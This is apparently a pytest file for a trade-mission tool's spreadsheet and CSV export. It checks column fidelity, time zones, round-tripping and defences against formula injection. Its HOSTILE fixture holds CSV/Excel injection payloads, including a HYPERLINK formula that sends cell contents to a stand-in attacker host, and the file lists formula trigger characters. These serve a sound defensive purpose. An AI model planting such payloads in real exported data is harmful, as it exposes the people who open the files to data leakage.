"""`ponte export`: the mission's tables as .xlsx and .csv, read back and checked against the
database, with hostile text that must never become a formula."""

from __future__ import annotations

import csv
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select
from sqlalchemy.orm import Session

from app.cli import build_cli
from app.common.formula_cells import restore_neutralised
from app.common.paths import Paths
from app.demo import write_demo
from app.exporting import ExportError, export_sheets
from app.exporting.cells import display_width, is_formula_like, neutralise
from app.exporting.csv_out import csv_value, write_csv
from app.exporting.export import export_to
from app.exporting.tables import PARTICIPANT_COLUMNS, SCHEDULE_COLUMNS, WHATS
from app.exporting.xlsx import MAX_WIDTH, write_xlsx
from app.model import (
    B2BSession,
    B2BTable,
    Interpreter,
    Meeting,
    MeetingParticipant,
    MeetingRequest,
    MeetingStatus,
    Mission,
    Organisation,
    Participant,
)
from app.store import Store
from tests.demo_support import LoadDemo

HOSTILE = {
    "family_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "given_name": "+1",
    "title": "-2+3",
    "notes": "@SUM(A1:A9)\nsecond line, with a comma",
    "title_ja": "\t=1+1",
    "phone": "＝1+1",
}


@dataclass(frozen=True)
class Demo:
    torino_nagoya: int  # mission ids
    nagoya_torino: int
    hostile: int  # the participant with hostile text
    japanese: int  # Yamauchi Shigeru, 山内 茂
    accented: int  # Niccolò Bertè


def _mission(s: Session, host: str) -> Mission:
    return s.scalars(select(Mission).where(Mission.host_city == host)).one()


def _person(s: Session, family: str) -> Participant:
    return s.scalars(select(Participant).where(Participant.family_name == family)).one()


def _meeting(
    s: Session, mission: Mission, a: Organisation, b: Organisation, start: datetime, **kw: Any
) -> Meeting:
    session = s.scalars(select(B2BSession).where(B2BSession.mission_id == mission.id)).first()
    assert session is not None
    table = kw.pop("table", None) or session.tables[0]
    m = Meeting(
        mission_id=mission.id, organisation_a_id=a.id, organisation_b_id=b.id,
        session_id=session.id, table_id=table.id, start_utc=start,
        end_utc=start + timedelta(minutes=20), **kw,
    )  # fmt: skip
    s.add(m)
    s.flush()
    return m


def write_demo_with_meetings(store: Store, load: Callable[[Store], object] = write_demo) -> Demo:
    """The demo (written by ``load``: the ``load_demo`` fixture copies it), a few meetings (one
    interpreted, one cancelled, two across Rome's DST change) and one participant whose every
    text field is hostile."""
    load(store)
    with store.session() as s:
        tn, nt = _mission(s, "Nagoya"), _mission(s, "Torino")
        japanese, accented = _person(s, "Yamauchi"), _person(s, "Bertè")
        hostile = s.scalars(
            select(Participant)
            .where(Participant.mission_id == tn.id, Participant.id != japanese.id)
            .where(Participant.id != accented.id, Participant.family_name_kanji.is_(None))
            .order_by(Participant.id.desc())
            .limit(1)
        ).one()
        for field, value in HOSTILE.items():
            setattr(hostile, field, value)
        assert accented.organisation is not None and japanese.organisation is not None
        ita, jpn = accented.organisation, japanese.organisation
        interpreter = s.scalars(select(Interpreter).where(Interpreter.mission_id == tn.id)).first()
        assert interpreter is not None
        tokyo = datetime(2027, 10, 13, 5, 0, tzinfo=UTC)  # 14:00 JST
        m1 = _meeting(s, tn, ita, jpn, tokyo, interpreter_id=interpreter.id, locked=True)
        s.add(MeetingParticipant(meeting_id=m1.id, participant_id=accented.id))
        s.add(MeetingParticipant(meeting_id=m1.id, participant_id=japanese.id))
        other = s.scalars(
            select(Organisation).where(
                Organisation.mission_id == tn.id, Organisation.id.not_in([ita.id, jpn.id])
            )
        ).first()
        assert other is not None
        _meeting(s, tn, other, jpn, tokyo + timedelta(minutes=20), status=MeetingStatus.CANCELLED)
        a, b = s.scalars(select(Organisation).where(Organisation.mission_id == nt.id)).all()[:2]
        _meeting(s, nt, a, b, datetime(2028, 3, 25, 10, 0, tzinfo=UTC))  # 11:00 CET
        _meeting(s, nt, a, b, datetime(2028, 3, 27, 12, 0, tzinfo=UTC))  # 14:00 CEST
        return Demo(tn.id, nt.id, hostile.id, japanese.id, accented.id)


@pytest.fixture
def demo(store: Store, load_demo: LoadDemo) -> Demo:
    return write_demo_with_meetings(store, load_demo)


def _expected_participant(s: Session, pid: int) -> dict[str, object]:
    """One participant's row as the spreadsheet should hold it, straight from the ORM."""
    p = s.get(Participant, pid)
    assert p is not None
    org = p.organisation
    delegation = p.delegation or (org.delegation if org else None)
    interpreter = s.scalars(select(Interpreter).where(Interpreter.participant_id == pid)).first()
    consent = p.consent_at.astimezone(_zone(p.mission.timezone)).date() if p.consent_at else None
    values: dict[str, object] = {
        "ID": p.id,
        "Family name": p.family_name,
        "Given name": p.given_name,
        "Family name (kanji)": p.family_name_kanji,
        "Given name (kanji)": p.given_name_kanji,
        "Family name (kana)": p.family_name_kana,
        "Given name (kana)": p.given_name_kana,
        "Name order": p.name_order.value,
        "Organisation ID": p.organisation_id,
        "Organisation": org.name if org else None,
        "Organisation (Japanese)": org.name_ja if org else None,
        "Delegation": delegation.name if delegation else None,
        "Side": delegation.side.value if delegation else None,
        "Title": p.title,
        "Title (Japanese)": p.title_ja,
        "Document language": p.document_language.value,
        "Badge category": p.badge_category.value,
        "Languages": ", ".join(p.languages),
        "E-mail": p.email,
        "Phone": p.phone,
        "Consent": "yes" if p.consent else "no",
        "Consent date": consent,
        "Interpreter": "yes" if interpreter else "no",
        "Notes": p.notes,
    }
    assert list(values) == [c.header for c in PARTICIPANT_COLUMNS]  # every column checked
    return values


def _zone(name: str) -> Any:
    from zoneinfo import ZoneInfo

    return ZoneInfo(name)


def _xlsx_rows(path: Path, sheet: str) -> tuple[list[str], dict[int, dict[str, Any]]]:
    book = openpyxl.load_workbook(path)
    ws = book[sheet]
    rows = list(ws.iter_rows(values_only=True))
    headers = [str(h) for h in rows[0]]
    return headers, {int(r[0]): dict(zip(headers, r, strict=True)) for r in rows[1:]}


def _widths(ws: Any) -> dict[int, float]:
    """Column number → width; xlsxwriter writes neighbours of equal width as one range."""
    out: dict[int, float] = {}
    for dim in ws.column_dimensions.values():
        for n in range(dim.min, dim.max + 1):
            out[n] = dim.width
    return out


def _blank(value: object) -> object:
    return None if value == "" else value


# --- .xlsx -----------------------------------------------------------------------------------


def test_participants_xlsx_holds_every_column_as_stored(
    store: Store, demo: Demo, tmp_path: Path
) -> None:
    """Kanji, kana and accents come back intact; every column of three people matches."""
    path = write_xlsx(
        tmp_path / "p.xlsx", export_sheets(store, demo.torino_nagoya, ["participants"])
    )
    headers, rows = _xlsx_rows(path, "Participants")
    assert headers == [c.header for c in PARTICIPANT_COLUMNS]
    with store.session() as s:
        n = len(
            s.scalars(select(Participant).where(Participant.mission_id == demo.torino_nagoya)).all()
        )
        assert len(rows) == n
        for pid in (demo.japanese, demo.accented, demo.hostile):
            expected = _expected_participant(s, pid)
            got = rows[pid]
            for header, value in expected.items():
                cell = got[header]
                if isinstance(cell, datetime):  # openpyxl reads date cells as datetimes
                    cell = cell.date()
                assert cell == _blank(value), (pid, header)
    assert rows[demo.japanese]["Family name (kanji)"] == "山内"
    assert rows[demo.accented]["Given name"] == "Niccolò"


def test_xlsx_layout_frozen_bold_filtered_and_wide_enough(
    store: Store, demo: Demo, tmp_path: Path
) -> None:
    """Header frozen and bold, autofilter over all rows, widths fit (kanji count double)."""
    sheets = export_sheets(store, demo.torino_nagoya, list(WHATS))
    path = write_xlsx(tmp_path / "all.xlsx", sheets)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Participants", "Organisations", "Requests", "Schedule"]
    for sheet in sheets:
        ws = book[sheet.name]
        assert ws.freeze_panes == "A2"
        assert all(cell.font.b for cell in ws[1])
        last = openpyxl.utils.get_column_letter(len(sheet.columns))
        assert ws.auto_filter.ref == f"A1:{last}{max(len(sheet.rows), 1) + 1}"
        widths = _widths(ws)
        for c, column in enumerate(sheet.columns):
            width = widths[c + 1]
            widest = max((display_width(csv_value(r[c])) for r in sheet.rows), default=0)
            assert width >= min(widest, MAX_WIDTH), (sheet.name, column.header)
            assert width <= MAX_WIDTH + 1
    ws = book["Organisations"]
    japanese_names = [r[2] for r in sheets[1].rows if r[2]]
    widest = max(japanese_names, key=len)
    assert _widths(ws)[3] >= 2 * len(
        widest
    )  # e.g. アエロストルットゥーレ・カゼッレ: wide characters


def test_xlsx_dates_are_date_cells_in_the_mission_zone(
    store: Store, demo: Demo, tmp_path: Path
) -> None:
    """Consent dates and meeting times are date cells; meetings show JST wall times."""
    sheets = export_sheets(store, demo.torino_nagoya, ["participants", "schedule"])
    path = write_xlsx(tmp_path / "d.xlsx", sheets)
    book = openpyxl.load_workbook(path)
    ws = book["Participants"]
    col = [c.header for c in PARTICIPANT_COLUMNS].index("Consent date") + 1
    dated = [ws.cell(r, col) for r in range(2, ws.max_row + 1) if ws.cell(r, col).value]
    assert dated and all(c.is_date and c.number_format == "yyyy-mm-dd" for c in dated)
    headers, rows = _xlsx_rows(path, "Schedule")
    assert headers == [c.header for c in SCHEDULE_COLUMNS]
    first = min(rows.values(), key=lambda r: r["Start"])
    assert first["Start"] == datetime(2027, 10, 13, 14, 0)
    assert first["End"] == datetime(2027, 10, 13, 14, 20)
    assert first["Date"] == datetime(2027, 10, 13)
    assert first["Time zone"] == "JST (Asia/Tokyo)"
    assert first["Start (UTC)"] == "2027-10-13T05:00:00Z"


def test_hostile_text_is_never_a_formula_in_xlsx(store: Store, demo: Demo, tmp_path: Path) -> None:
    """=HYPERLINK, +1, -2+3, @SUM, tab-=, full-width ＝: string cells, text exact, quote prefix."""
    path = write_xlsx(
        tmp_path / "h.xlsx", export_sheets(store, demo.torino_nagoya, ["participants"])
    )
    ws = openpyxl.load_workbook(path)["Participants"]
    headers = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == demo.hostile)
    by_header = dict(zip(headers, row, strict=True))
    checked = {
        "Family name": HOSTILE["family_name"],
        "Given name": HOSTILE["given_name"],
        "Title": HOSTILE["title"],
        "Notes": HOSTILE["notes"],
        "Title (Japanese)": HOSTILE["title_ja"],
        "Phone": HOSTILE["phone"],
    }
    for header, text in checked.items():
        cell = by_header[header]
        assert cell.data_type == "s", header
        assert cell.value == text, header
        assert cell.quotePrefix, header
    for r in ws.iter_rows():
        for cell in r:
            assert cell.data_type != "f"


# --- .csv ------------------------------------------------------------------------------------


def test_csv_is_utf8_with_bom_crlf_and_matches_the_xlsx(
    store: Store, demo: Demo, tmp_path: Path
) -> None:
    """BOM, CRLF, quoted line breaks; every cell equals the .xlsx's, as CSV text."""
    sheets = export_sheets(store, demo.torino_nagoya, ["participants"])
    path = write_csv(tmp_path / "p.csv", sheets[0])
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\r\n") == len(sheets[0].rows) + 1  # the notes' \n stays inside quotes
    assert "山内".encode() in raw
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == [c.header for c in PARTICIPANT_COLUMNS]
    _, xlsx_rows = _xlsx_rows(write_xlsx(tmp_path / "p.xlsx", sheets), "Participants")
    with store.session() as s:
        for line in rows[1:]:
            pid = int(line[0])
            x = xlsx_rows[pid]
            for header, value in zip(rows[0], line, strict=True):
                cell = x[header]
                if isinstance(cell, datetime):
                    cell = cell.date()
                assert value == csv_value(cell), (pid, header)
        expected = _expected_participant(s, demo.japanese)
    japanese = next(r for r in rows if r[0] == str(demo.japanese))
    assert japanese[3] == "山内" and japanese[5] == expected["Family name (kana)"]
    assert japanese[19] == "'+81 52-561-6965"  # a leading + is a formula to Excel


def test_hostile_text_is_neutralised_in_csv(store: Store, demo: Demo, tmp_path: Path) -> None:
    """Every formula-like text gets an apostrophe; no field starts with a trigger."""
    path = write_csv(
        tmp_path / "h.csv", export_sheets(store, demo.torino_nagoya, ["participants"])[0]
    )
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    row = next(r for r in rows if r["ID"] == str(demo.hostile))
    assert row["Family name"] == "'" + HOSTILE["family_name"]
    assert row["Given name"] == "'+1"
    assert row["Title"] == "'-2+3"
    assert row["Notes"] == "'" + HOSTILE["notes"]
    assert row["Title (Japanese)"] == "'\t=1+1"
    assert row["Phone"] == "'＝1+1"
    for r in rows:
        for value in r.values():
            assert not is_formula_like(value), value


def test_cells_rules() -> None:
    """Triggers, full-width forms, leading spaces; numbers stay numbers; wide characters."""
    for text in ("=1", "+1", "-1", "@A", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠A", "  =1"):
        assert neutralise(text) == "'" + text
    for text in ("", "Rossi", "'Rossi", "a=b", "名古屋", "1-2"):
        assert neutralise(text) == text
    assert neutralise("'=1") == "''=1"  # looks made inert already: reads back as written
    assert csv_value(-2) == "-2"
    assert csv_value(True) == "yes"
    assert csv_value(date(2028, 3, 26)) == "2028-03-26"
    assert csv_value(datetime(2028, 3, 26, 3, 0)) == "2028-03-26 03:00"
    assert display_width("名古屋") == 6
    assert display_width("Torino") == 6
    assert display_width("ＡＢ") == 4
    assert display_width("e\u0301") == 1
    assert display_width("ab\nabcd") == 4


# --- the other tables ------------------------------------------------------------------------


def test_schedule_crosses_the_dst_change_with_the_zone_shown(store: Store, demo: Demo) -> None:
    """Nagoya → Torino: CET before 26 March 2028, CEST after; wall times in Rome."""
    (sheet,) = export_sheets(store, demo.nagoya_torino, ["schedule"])
    h = sheet.headers
    rows = [dict(zip(h, r, strict=True)) for r in sheet.rows]
    assert [r["Time zone"] for r in rows] == ["CET (Europe/Rome)", "CEST (Europe/Rome)"]
    assert [r["Start"] for r in rows] == [datetime(2028, 3, 25, 11), datetime(2028, 3, 27, 14)]


def test_schedule_names_people_interpreter_and_status(store: Store, demo: Demo) -> None:
    """The interpreted meeting names who sits and who interprets; the cancelled one says so."""
    (sheet,) = export_sheets(store, demo.torino_nagoya, ["schedule"])
    rows = [dict(zip(sheet.headers, r, strict=True)) for r in sheet.rows]
    assert [r["Status"] for r in rows] == ["scheduled", "cancelled"]
    with store.session() as s:
        japanese, accented = s.get(Participant, demo.japanese), s.get(Participant, demo.accented)
        assert japanese is not None and accented is not None
        m = s.scalars(select(Meeting).where(Meeting.locked.is_(True))).one()
        interpreter = s.get(Interpreter, m.interpreter_id)
        assert interpreter is not None
        first = rows[0]
        assert first["Organisation A"] == accented.organisation.name  # type: ignore[union-attr]
        assert first["People A"] == accented.latin_name()
        assert first["People B"] == japanese.latin_name()
        assert first["Organisation B (Japanese)"] == "名古屋商工会議所"
        assert first["Interpreter"] == interpreter.participant.latin_name()
        assert first["Locked"] is True
        table = s.get(B2BTable, m.table_id)
        assert table is not None and first["Table"] == table.name


def test_requests_and_organisations_agree_with_the_database(store: Store, demo: Demo) -> None:
    """Counts, mutual flags and names in both scripts, for every row."""
    requests, organisations = export_sheets(
        store, demo.torino_nagoya, ["requests", "organisations"]
    )
    req = [dict(zip(requests.headers, r, strict=True)) for r in requests.rows]
    org = {r[0]: dict(zip(organisations.headers, r, strict=True)) for r in organisations.rows}
    with store.session() as s:
        stored = s.scalars(
            select(MeetingRequest).where(MeetingRequest.mission_id == demo.torino_nagoya)
        ).all()
        assert len(req) == len(stored) == 415
        pairs = {(r.requester_id, r.requested_id) for r in stored if not r.no_thanks}
        by_id = {r.id: r for r in stored}
        for row in req:
            r = by_id[row["ID"]]
            assert (row["From ID"], row["To ID"]) == (r.requester_id, r.requested_id)
            assert row["From"] == r.requester.name and row["To (Japanese)"] == r.requested.name_ja
            assert row["Priority"] == r.priority and row["No thanks"] is r.no_thanks
            assert row["Interpreter need"] == r.interpreter_need.value
            mutual = not r.no_thanks and (r.requested_id, r.requester_id) in pairs
            assert row["Mutual"] is mutual
        assert sum(1 for r in req if r["Mutual"]) == 2 * 101
        met = {
            frozenset((m.organisation_a_id, m.organisation_b_id))
            for m in s.scalars(select(Meeting).where(Meeting.mission_id == demo.torino_nagoya))
            if m.status is not MeetingStatus.CANCELLED
        }
        for row in req:
            assert row["Scheduled"] is (frozenset((row["From ID"], row["To ID"])) in met)
        for o in s.scalars(
            select(Organisation).where(Organisation.mission_id == demo.torino_nagoya)
        ):
            row = org[o.id]
            assert (row["Name"], row["Name (kanji)"], row["Name (kana)"]) == (
                o.name, o.name_ja, o.name_kana,
            )  # fmt: skip
            assert row["Sectors"] == ", ".join(x.value for x in o.sectors)
            assert row["Participants"] == len(o.participants)
            assert row["Requests made"] == sum(1 for r in stored if r.requester_id == o.id)


def test_unknown_mission_and_table_are_refused(store: Store, load_demo: LoadDemo) -> None:
    with pytest.raises(ExportError, match="no mission 99"):
        export_sheets(store, 99, ["participants"])
    load_demo(store)
    with pytest.raises(ExportError, match="Unknown export"):
        export_sheets(store, 1, ["people"])


def test_an_export_error_reads_in_japanese_and_italian(store: Store, tmp_path: Path) -> None:
    """The window words it in its language; the English (the CLI's) is unchanged."""
    with pytest.raises(ExportError) as e:
        export_sheets(store, 99, ["participants"])
    assert str(e.value) == "There is no mission 99 in this database."
    assert e.value.text("ja") == "このデータベースにミッション 99 はありません。"
    assert e.value.text("it") == "In questo database non c'è la missione 99."
    with pytest.raises(ExportError) as e:
        export_to(tmp_path / "iscritti.ods", store, 99, ["participants"])
    assert str(e.value) == (
        "Cannot tell the format of 'iscritti.ods': name the file .xlsx or .csv."
    )
    assert e.value.text("ja") == (
        "「iscritti.ods」の形式が判断できません。"
        "ファイル名の末尾を .xlsx または .csv にしてください。"
    )
    assert e.value.text("it").startswith("Impossibile riconoscere il formato di «iscritti.ods»")


# --- the command -----------------------------------------------------------------------------


@pytest.fixture
def demo_file(tmp_path: Path, paths: Paths, load_demo: LoadDemo) -> tuple[str, Demo]:
    from app.store import open_store

    target = str(tmp_path / "demo.sqlite")
    with open_store(target, paths=paths) as s:
        return target, write_demo_with_meetings(s, load_demo)


@given(st.text())
def test_a_neutralised_cell_reads_back_as_written(text: str) -> None:
    """What the CSV export writes, the import reads back unchanged, whatever the text."""
    assert restore_neutralised(neutralise(text)) == text


def test_an_exported_csv_imports_back_unchanged(
    demo_file: tuple[str, Demo], tmp_path: Path
) -> None:
    """Phones exported as '+39 … (inert for Excel) import back as +39 …: every row of the
    participants' CSV is unchanged (issue 16 found 142 of 155 refused)."""
    db, d = demo_file
    runner, cli = CliRunner(), build_cli()
    out = tmp_path / "participants.csv"
    mission = ["--db", db, "--mission", str(d.torino_nagoya)]
    result = runner.invoke(cli, ["export", *mission, str(out)])
    assert result.exit_code == 0, result.output
    assert "'+" in out.read_text(encoding="utf-8-sig")
    result = runner.invoke(cli, ["import", *mission, str(out), "--dry-run"])
    # the one refused is the hostile row, written straight into the database with a phone
    # ("＝1+1") no form or import accepts
    assert "To create 0, to update 0, unchanged 154, with errors 1" in result.output
    assert result.output.count("Phone: A phone number") == 1, result.output


def test_cli_writes_xlsx_and_csv(demo_file: tuple[str, Demo], tmp_path: Path) -> None:
    db, d = demo_file
    runner = CliRunner()
    cli = build_cli()
    out = tmp_path / "out" / "participants.XLSX"
    result = runner.invoke(cli, ["export", "--db", db, "--mission", str(d.torino_nagoya), str(out)])
    assert result.exit_code == 0, result.output
    assert "Wrote 155 rows of participants to" in result.output
    assert openpyxl.load_workbook(out).sheetnames == ["Participants"]
    assert out.stat().st_mode & 0o777 == 0o600
    out = tmp_path / "schedule.csv"
    result = runner.invoke(
        cli,
        ["export", "--db", db, "--mission", str(d.nagoya_torino), "--what", "schedule", str(out)],
    )
    assert result.exit_code == 0, result.output
    assert "Wrote 2 rows of schedule" in result.output
    result = runner.invoke(cli, ["export", "--db", db, "--what", "all", str(tmp_path / "a.xlsx")])
    assert result.exit_code == 0, result.output
    assert "(another with --mission)" in result.output  # the default mission is named
    assert len(openpyxl.load_workbook(tmp_path / "a.xlsx").sheetnames) == 4


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["out.ods"], "name the file .xlsx or .csv"),
        (["out"], "name the file .xlsx or .csv"),
        (["--what", "all", "out.csv"], "--what all needs an .xlsx file"),
        (["--what", "people", "out.csv"], "Invalid value for '--what'"),
    ],
)
def test_cli_usage_errors(
    demo_file: tuple[str, Demo], tmp_path: Path, args: list[str], message: str
) -> None:
    """Exit status 2, the reason, no file."""
    db, _ = demo_file
    args = [*args[:-1], str(tmp_path / args[-1])]
    result = CliRunner().invoke(build_cli(), ["export", "--db", db, *args])
    assert result.exit_code == 2
    assert message in result.output
    assert not list(tmp_path.glob("out*"))


def test_cli_errors_are_clean(demo_file: tuple[str, Demo], tmp_path: Path) -> None:
    """No such mission, a folder in the way, no database: status 1, a message, no traceback."""
    db, _ = demo_file
    runner, cli = CliRunner(), build_cli()
    result = runner.invoke(cli, ["export", "--db", db, "--mission", "99", str(tmp_path / "x.csv")])
    assert result.exit_code == 1 and "no mission 99" in result.output
    (tmp_path / "dir.xlsx").mkdir()
    result = runner.invoke(cli, ["export", "--db", db, str(tmp_path / "dir.xlsx")])
    assert result.exit_code == 2 and "is a directory" in result.output
    result = runner.invoke(cli, ["export", "--db", str(tmp_path / "none.sqlite"), "x.csv"])
    assert result.exit_code == 1 and "no database" in result.output
    assert not (tmp_path / "none.sqlite").exists()
    assert "Traceback" not in result.output


def test_a_failed_export_leaves_the_old_file(
    store: Store, demo: Demo, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The file is written beside and renamed: a crash midway keeps the previous export."""
    import app.exporting.xlsx as xlsx

    sheets = export_sheets(store, demo.torino_nagoya, ["organisations"])
    path = write_xlsx(tmp_path / "o.xlsx", sheets)
    before = path.read_bytes()

    def boom(*_args: object) -> None:
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(xlsx, "_write_sheet", boom)
    with pytest.raises(RuntimeError):
        write_xlsx(path, sheets)
    assert path.read_bytes() == before
    assert not list(tmp_path.glob("*.part"))
